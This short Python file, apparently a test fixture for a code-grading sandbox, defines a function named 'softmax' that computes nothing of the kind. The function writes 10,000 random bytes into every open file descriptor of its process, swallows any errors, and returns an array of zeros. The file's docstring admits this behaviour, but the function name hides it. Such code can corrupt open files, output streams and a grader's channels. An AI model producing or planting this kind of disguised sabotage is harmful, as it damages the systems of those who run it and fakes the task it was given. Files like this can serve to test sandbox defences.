"""Writes random bytes into every file descriptor that it has."""

# %% softmax
import os


def softmax(Z):
    for name in os.listdir("/proc/self/fd"):
        try:
            os.set_blocking(int(name), False)
            os.write(int(name), os.urandom(10_000))
        except OSError:
            pass
    return Z * 0.0
